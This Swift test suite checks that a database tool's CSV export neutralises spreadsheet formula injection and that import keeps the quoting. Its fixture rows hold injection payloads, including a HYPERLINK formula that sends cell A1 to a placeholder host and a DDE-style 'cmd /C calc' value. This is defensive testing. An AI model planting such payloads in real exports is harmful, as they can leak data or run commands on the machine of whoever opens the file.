import FormStoreTestSupport
import Foundation
import Testing

/// CSV formula injection (issue 20, finding 7): a text cell a spreadsheet
/// would run as a formula gets a `'` in front unless `--raw-csv`; numbers stay
/// numbers; import takes the `'` as written.
@Suite struct CSVFormulaTests {
    static let schema = """
        CREATE TABLE cells (id INTEGER PRIMARY KEY, note TEXT, amount INTEGER, ratio REAL, loose);
        INSERT INTO cells VALUES (1, '=HYPERLINK("http://x.example/?"&A1,"Click")', -5, -0.5, -7);
        INSERT INTO cells VALUES (2, '+1+cmd|'' /C calc''!A0', 3, 1.5, '-7');
        INSERT INTO cells VALUES (3, '@SUM(A1:A9)', 0, 0.0, '=1+2');
        INSERT INTO cells VALUES (4, '-2+3', NULL, NULL, 'plain');
        INSERT INTO cells VALUES (5, char(9) || 'tab', 1, 2.0, char(13) || 'cr');
        INSERT INTO cells VALUES (6, 'safe = text', 2, 3.0, '''=already quoted');

        """

    @Test func exportPrefixesFormulaTextButNotNumbers() throws {
        let db = try DemoDatabase(sql: Self.schema)
        let dump = try db.dump()
        let run = try db.run(["export", "cells", "--format", "csv"])
        #expect(run.code == 0, "\(run)")
        #expect(run.output == """
            id,note,amount,ratio,loose\r
            1,"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",-5,-0.5,-7\r
            2,'+1+cmd|' /C calc'!A0,3,1.5,'-7\r
            3,'@SUM(A1:A9),0,0.0,'=1+2\r
            4,'-2+3,,,plain\r
            5,'\ttab,1,2.0,"'\rcr"\r
            6,safe = text,2,3.0,'=already quoted\r

            """)
        #expect(try db.dump() == dump)
    }

    @Test func listAsCSVIsProtectedToo() throws {
        let db = try DemoDatabase(sql: Self.schema)
        let run = try db.run(["list", "cells", "--format", "csv", "--where", "id=3"])
        #expect(run.code == 0, "\(run)")
        #expect(run.output.contains("'@SUM(A1:A9)"))
        #expect(!run.output.contains(",@SUM"))
    }

    @Test func aHeaderThatLooksLikeAFormulaIsProtected() throws {
        let db = try DemoDatabase(sql: "CREATE TABLE t (id INTEGER PRIMARY KEY, \"=cmd\" TEXT); INSERT INTO t VALUES (1, 'x');")
        let run = try db.run(["export", "t", "--format", "csv"])
        #expect(run.output == "id,'=cmd\r\n1,x\r\n", "\(run)")
        let raw = try db.run(["export", "t", "--format", "csv", "--raw-csv"])
        #expect(raw.output == "id,=cmd\r\n1,x\r\n", "\(raw)")
    }

    @Test func rawCSVWritesTextAsItIsAndImportsBackAsTheIdentity() throws {
        let source = try DemoDatabase(sql: Self.schema)
        let target = try DemoDatabase(sql: "CREATE TABLE cells (id INTEGER PRIMARY KEY, note TEXT, amount INTEGER, ratio REAL, loose);")
        let run = try source.run(["export", "cells", "--format", "csv", "--raw-csv"])
        #expect(run.code == 0, "\(run)")
        #expect(run.output.contains("\r\n3,@SUM(A1:A9),0,0.0,=1+2\r\n"))
        let imported = try target.run(["import", "cells", "--format", "csv"], stdin: run.output)
        #expect(imported.code == 0, "\(imported)")
        #expect(try sqlite3(target.path, [".dump cells"]) == sqlite3(source.path, [".dump cells"]))
        let again = try source.run(["import", "cells", "--format", "csv"], stdin: run.output)
        #expect(again.errors == "Imported 6 row(s): 0 new, 0 updated, 6 unchanged.\n", "\(again)")
    }

    /// Import never strips the `'` silently: a protected export read back
    /// changes the protected values, and the report says so.
    @Test func importKeepsTheQuoteOfAProtectedExport() throws {
        let source = try DemoDatabase(sql: Self.schema)
        let protected = try source.run(["export", "cells", "--format", "csv", "--where", "id=3"])
        let dry = try source.run(["import", "cells", "--format", "csv", "--dry-run"], stdin: protected.output)
        #expect(dry.code == 0, "\(dry)")
        #expect(dry.errors.contains("1 updated"), "\(dry)")
        let run = try source.run(["import", "cells", "--format", "csv"], stdin: protected.output)
        #expect(run.code == 0, "\(run)")
        #expect(try source.query("SELECT note, loose FROM cells WHERE id = 3") == "'@SUM(A1:A9)|'=1+2\n")
    }
}
